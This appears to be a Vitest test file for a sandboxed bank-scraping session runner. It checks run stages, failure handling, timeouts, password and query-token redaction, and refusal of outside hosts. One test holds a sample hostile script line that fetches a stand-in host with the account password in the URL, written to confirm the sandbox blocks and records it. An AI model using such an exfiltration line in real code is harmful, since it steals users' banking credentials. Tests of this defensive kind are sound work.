import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { AppError } from '../../main/core/errors.ts'
import { killBrowserOf } from '../support/browser-processes.ts'
import { type Loopback, startLoopback } from '../support/loopback.ts'
import { createTestSessions, testCredentials } from '../support/test-sessions.ts'

let bank: Loopback
let other: Loopback

beforeAll(async () => {
  other = await startLoopback({ '/': 'other' })
  bank = await startLoopback({
    '/': `<p id=in>in</p><img src="${other.url}/pixel.png">${Array.from({ length: 3 }, (_, i) => `<div class=row data-id=T${i}>${i + 1}.50</div>`).join('')}`,
    '/never': () => undefined,
  })
})
afterAll(() => Promise.all([bank?.close(), other?.close()]))

const toRows = `.map((row) => ({ externalId: row.id, referenceHash: 'a'.repeat(64), amount: Number(row.amount), currency: 'UYU', senderName: 'Ana', receivedAt: '2026-05-12T07:00:00-03:00', raw: row }))`
const listScript = (before = '') => `
  ${before}
  await page.goto(context.loginUrl + '/?session=secret-in-address')
  return (await page.rows('.row', { id: '@data-id', amount: '.' }))${toRows}`
const hookScript = (change = '') => `
  const hooks = {
    async login(page, context) { await page.goto(context.loginUrl + '/') },
    isAuthenticated: (page) => page.visible('#in'),
    async poll(page) { return (await page.rows('.row', { id: '@data-id', amount: '.' }))${toRows} },
  }
  ${change}
  return hooks`

const steps = (read: ReturnType<ReturnType<typeof createTestSessions>['lastRun']>) =>
  read.steps.map((step) => `${step.step} ${step.status}`)

describe('one reading', () => {
  it('of a hook script logs in, waits, polls once, stores and closes', async () => {
    const test = createTestSessions({ script: hookScript(), loginUrl: bank.url })
    const outcome = await test.read()
    expect(outcome).toEqual({ runId: expect.any(String), status: 'success', found: 3, failure: null })
    const last = test.lastRun()
    expect(steps(last)).toEqual([
      'credentials success',
      'launch success',
      'load_script success',
      'login success',
      'auth_wait success',
      'poll success',
      'close success',
    ])
    expect(last.run).toMatchObject({
      status: 'success',
      stage: null,
      found: 3,
      failureType: null,
      scriptVersion: '1.0.0',
      refusedHosts: { [other.host]: 1 },
    })
    expect(test.stored()).toHaveLength(3)
    expect(test.stored()[0]).toMatchObject({
      external_id: 'T0',
      amount_minor: 150,
      currency: 'UYU',
      sender_name: 'Ana',
      received_at: Date.parse('2026-05-12T10:00:00Z'),
    })
    expect(test.types()).toEqual(['account.updated', 'scrape.succeeded'])
    expect(test.lines.filter((line) => line.event === 'failure_trail')).toEqual([])
    expect(existsSync(join(test.dataDir, 'profiles', test.accountId))).toBe(true)

    expect(await test.read()).toMatchObject({ status: 'success', found: 0 })
    expect(test.stored()).toHaveLength(3)
  })

  it('of a list script stores its list, and shows where it is although it says nothing', async () => {
    const test = createTestSessions({ script: listScript(), loginUrl: bank.url })
    expect(await test.read()).toMatchObject({ status: 'success', found: 3 })
    expect(steps(test.lastRun())).toEqual([
      'credentials success',
      'launch success',
      'load_script success',
      'close success',
    ])
    const shown = test.events
      .filter((event) => event.type === 'run.updated')
      .map(({ data }) => [data.status, data.stage, data.transactions_found])
    expect(shown).toEqual([
      ['running', 'credentials', null],
      ['running', 'launch', null],
      ['running', 'load_script', null],
      ['running', 'login', null],
      ['running', 'movements_fetch', null],
      ['running', 'movements_fetch', 3],
      ['running', 'close', 3],
      ['success', null, 3],
    ])
  })

  it('gives the script its facts and nothing else', async () => {
    const test = createTestSessions({
      script:
        `return Object.entries(context).filter(([, value]) => typeof value === 'string').map(([name, value]) => ({ externalId: name, amount: 1, currency: 'UYU', senderName: value, receivedAt: await page.now(), raw: null }))`
          .replace('return ', 'const at = await page.now(); return ')
          .replace('await page.now(), raw', 'at, raw'),
      loginUrl: bank.url,
    })
    await test.read()
    expect(Object.fromEntries(test.stored().map((row) => [row.external_id, row.sender_name]))).toEqual({
      accountId: test.accountId,
      username: testCredentials.username,
      password: testCredentials.password,
      loginUrl: bank.url,
      timeZone: 'America/Montevideo',
    })
    const second = createTestSessions({
      script: `throw new Error('last ' + context.lastExternalId)`,
      loginUrl: bank.url,
    })
    expect((await second.read()).failure?.message).toBe('last null')
  })

  it('is one at a time: a second call joins the first', async () => {
    const test = createTestSessions({ script: listScript(), loginUrl: bank.url })
    const [first, second] = await Promise.all([test.read(), test.read()])
    expect(second).toEqual(first)
    expect(test.sessions.runs(test.accountId, 10, 0).total).toBe(1)
  })
})

describe('a reading that fails', () => {
  it.each<[string, string, string, string, string[]]>([
    ['before it does anything', 'null.x', 'script_load_failed', 'load_script', ['load_script failed']],
    [
      'by returning nonsense',
      `return [{ externalId: 'x' }]`,
      'movements_fetch_failed',
      'movements_fetch',
      ['load_script success', 'movements_fetch failed'],
    ],
    [
      'after it acted',
      `await page.goto(context.loginUrl + '/'); null.x`,
      'unknown',
      'login',
      ['load_script success', 'login failed'],
    ],
    [
      'while it reads',
      `await page.goto(context.loginUrl + '/'); await page.rows('p', {}); null.x`,
      'unknown',
      'movements_fetch',
      ['load_script success', 'movements_fetch failed'],
    ],
    [
      'on a page that never loads',
      `await page.goto(context.loginUrl + '/never', { timeout: 200 })`,
      'navigation_failed',
      'navigate',
      ['load_script success', 'navigate failed'],
    ],
    [
      'in a hook',
      hookScript(`hooks.isAuthenticated = async () => { throw new Error('account_locked: call us') }`),
      'account_locked',
      'login',
      ['load_script success', 'login success', 'auth_wait failed', 'login failed'],
    ],
  ])('%s shows its stage and stores nothing', async (_, script, type, stage, middle) => {
    const test = createTestSessions({ script, loginUrl: bank.url })
    const outcome = await test.read()
    expect(outcome).toMatchObject({ status: 'failed', found: null, failure: { type } })
    const last = test.lastRun()
    expect(last.run).toMatchObject({ status: 'failed', stage, failureType: type, found: null })
    expect(steps(last)).toEqual(['credentials success', 'launch success', ...middle, 'close success'])
    expect(test.stored()).toEqual([])
    expect(test.lines.filter((line) => line.event === 'failure_trail')).toHaveLength(1)
  })

  it('keeps of the page only its address without query, and of the script where it failed', async () => {
    const test = createTestSessions({
      script: `await page.goto(context.loginUrl + '/?token=abc#x'); throw new Error('boom')`,
      loginUrl: bank.url,
    })
    await test.read()
    const step = test.lastRun().steps.find((each) => each.status === 'failed')
    expect(step).toMatchObject({ url: `${bank.url}/`, errorMessage: 'boom', stack: expect.stringContaining('boom') })
    expect(JSON.stringify([test.lastRun(), test.lines, test.events])).not.toContain('token=abc')
  })

  it('never tells the password, whatever the script does with it', async () => {
    const secret = testCredentials.password
    const test = createTestSessions({
      script: `
        context.debugLog(JSON.stringify({ event: 'login_started', deep: { password: context.password, note: 'typed ' + context.password } }))
        context.debugLog('text with ' + context.password)
        await page.goto(context.loginUrl + '/')
        await page.sleep(1, 'because ' + context.password)
        try { await page.fill('#in', context.password, { timeout: 300 }) } catch (error) { context.debugLog({ event: 'fill_failed', error: error.message }) }
        throw new Error('login_failed: ' + context.password + ' and ' + encodeURIComponent(context.password))`,
      loginUrl: bank.url,
    })
    const outcome = await test.read()
    const dump = JSON.stringify([
      outcome,
      test.lastRun(),
      test.lines,
      test.events,
      test.store.db.prepare('select * from scrape_steps').all(),
      test.accounts.find(test.accountId),
    ])
    expect(dump).not.toContain(secret)
    expect(outcome.failure?.message).toBe('login_failed: [REDACTED] and [REDACTED]')
    const trail = test.lines.find((line) => line.event === 'failure_trail')
    expect(trail).toMatchObject({
      level: 'error',
      fields: { run: outcome.runId, stage: 'login', failure_type: 'login_failed', stop_reason: null },
    })
    expect(trail?.fields.events).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ event: 'login_started', deep: { password: '[REDACTED]', note: 'typed [REDACTED]' } }),
        expect.objectContaining({ event: 'sleep' }),
      ]),
    )
  })

  it('shows what its script tried to reach, also when it went well', async () => {
    const tries = `fetch('https://collect.example/?p=' + context.password).catch(() => 0); new Image().src = '${other.url}/x'
      await page.goto('https://elsewhere.example/').catch(() => 0); await new Promise((done) => setTimeout(done, 300))`
    const good = createTestSessions({ script: listScript(tries), loginUrl: bank.url })
    expect(await good.read()).toMatchObject({ status: 'success' })
    expect(good.lastRun().run.refusedHosts).toEqual({ 'collect.example': 1, [other.host]: 2 })

    const bad = createTestSessions({ script: `${tries}; throw new Error('no more')`, loginUrl: bank.url })
    await bad.read()
    const trail = JSON.stringify(bad.lastRun().report?.trail)
    expect(trail).toContain('collect.example')
    expect(trail).toContain('elsewhere.example:443')
    expect(trail).not.toContain(testCredentials.password)
  })

  it('says what is missing without opening a browser', async () => {
    const opened: string[] = []
    const browser = async () => {
      opened.push('browser')
      return '/nowhere'
    }
    const test = createTestSessions({ script: listScript(), credentials: null, browser })
    expect(await test.read()).toMatchObject({
      failure: { type: 'credentials_failed', message: expect.stringContaining('No valid credentials') },
    })
    expect(steps(test.lastRun())).toEqual(['credentials failed'])

    const without = createTestSessions({ script: null, browser })
    expect(await without.read()).toEqual({
      runId: null,
      status: 'failed',
      found: null,
      failure: { type: 'script_load_failed', message: 'No active script for Test bank' },
    })
    expect(without.sessions.runs(without.accountId, 10, 0)).toEqual({ total: 0, items: [] })
    expect(await without.sessions.runOneShot('unknown', new AbortController().signal)).toMatchObject({
      runId: null,
      status: 'failed',
    })
    expect(opened).toEqual([])
  })

  it('says which browser could not be started, or what to install', async () => {
    const wrong = createTestSessions({ script: listScript(), browser: async () => '/nowhere/chrome' })
    expect(await wrong.read()).toMatchObject({
      failure: { type: 'launch_failed', message: expect.stringContaining('/nowhere/chrome could not be started') },
    })
    expect(steps(wrong.lastRun())).toEqual(['credentials success', 'launch failed'])
    const none = createTestSessions({
      script: listScript(),
      browser: async () => {
        throw new AppError('unavailable', 'browser.missing', 'No browser was found')
      },
    })
    expect(await none.read()).toMatchObject({ failure: { type: 'launch_failed', message: 'No browser was found' } })
  })

  it('stores nothing when the disk takes nothing', async () => {
    const test = createTestSessions({ script: listScript(), loginUrl: bank.url })
    test.store.db.exec(
      `create trigger full before insert on movements when new.external_id = 'T1' begin select raise(abort, 'database or disk is full'); end`,
    )
    expect(await test.read()).toMatchObject({ status: 'failed', failure: { message: 'database or disk is full' } })
    expect(test.stored()).toEqual([])
    expect(test.lastRun().run.found).toBeNull()
  })
})

describe('a reading that cannot be written down', () => {
  it('is not begun', async () => {
    const test = createTestSessions({ script: listScript(), loginUrl: bank.url })
    test.store.db.exec(
      `create trigger full before insert on scrape_runs begin select raise(abort, 'database or disk is full'); end`,
    )
    expect(await test.read()).toEqual({
      runId: null,
      status: 'failed',
      found: null,
      failure: { type: 'unknown', message: 'The reading could not be begun: database or disk is full' },
    })
  })
})

describe('a reading that does not end', () => {
  it.each<[string, string, object, string, string]>([
    ['a loop', 'for (;;) {}', { scriptMs: 800 }, 'timeout', 'load_script'],
    ['a loop in a hook', hookScript('hooks.poll = () => { for (;;) {} }'), { scriptMs: 4000 }, 'timeout', 'poll'],
    ['a page that hangs', `await page.goto(context.loginUrl + '/never')`, { scriptMs: 800 }, 'timeout', 'login'],
    ['all of it', `await new Promise(() => 0)`, { runMs: 5000 }, 'timeout', 'load_script'],
  ])('is ended by its limit: %s', async (_, script, limits, type, stage) => {
    const test = createTestSessions({ script, loginUrl: bank.url, limits })
    const started = performance.now()
    expect(await test.read()).toMatchObject({ status: 'failed', failure: { type } })
    expect(performance.now() - started).toBeLessThan(12_000)
    expect(test.lastRun().run).toMatchObject({ stage, failureType: type })
    expect(test.types()).toContain('scrape.failed')
  })

  it('is ended when it is stopped, which says nothing about the bank', async () => {
    const test = createTestSessions({
      script: `await page.goto(context.loginUrl + '/'); await new Promise(() => 0)`,
      loginUrl: bank.url,
    })
    const stop = new AbortController()
    const reading = test.read(stop.signal)
    await expect.poll(() => test.lastRun().run.stage, { timeout: 10_000 }).toBe('login')
    stop.abort()
    expect(await reading).toMatchObject({
      status: 'failed',
      failure: { type: 'session_killed', message: 'The reading was stopped' },
    })
    expect(test.lastRun().run).toMatchObject({ failureType: 'session_killed', stopReason: 'session_killed' })
    expect(test.types()).toEqual(['account.updated'])
  })

  it('is recognised when the browser dies', async () => {
    const test = createTestSessions({
      script: `await page.goto(context.loginUrl + '/'); context.debugLog({ event: 'ready' }); await new Promise(() => 0)`,
      loginUrl: bank.url,
    })
    const reading = test.read()
    await expect.poll(() => test.lines.some((line) => line.event === 'script_ready'), { timeout: 15_000 }).toBe(true)
    killBrowserOf(join(test.dataDir, 'profiles', test.accountId))
    expect(await reading).toMatchObject({ failure: { type: 'browser_closed' } })
    expect(test.lastRun().run).toMatchObject({ stage: 'login', stopReason: 'browser_closed' })
  })

  it('ends with the program, and forgets the profile of a deleted account', async () => {
    const test = createTestSessions({ script: `await new Promise(() => 0)`, loginUrl: bank.url })
    const reading = test.read()
    const profile = join(test.dataDir, 'profiles', test.accountId)
    await expect.poll(() => existsSync(profile), { timeout: 10_000 }).toBe(true)
    await test.sessions.forget(test.accountId)
    expect(await reading).toMatchObject({ failure: { type: 'session_killed' } })
    expect(existsSync(profile)).toBe(false)

    const again = test.read()
    await expect.poll(() => existsSync(profile), { timeout: 10_000 }).toBe(true)
    await test.sessions.stop()
    expect(await again).toMatchObject({ failure: { type: 'session_killed' } })
    expect(await test.read()).toMatchObject({ runId: null })
  })
})
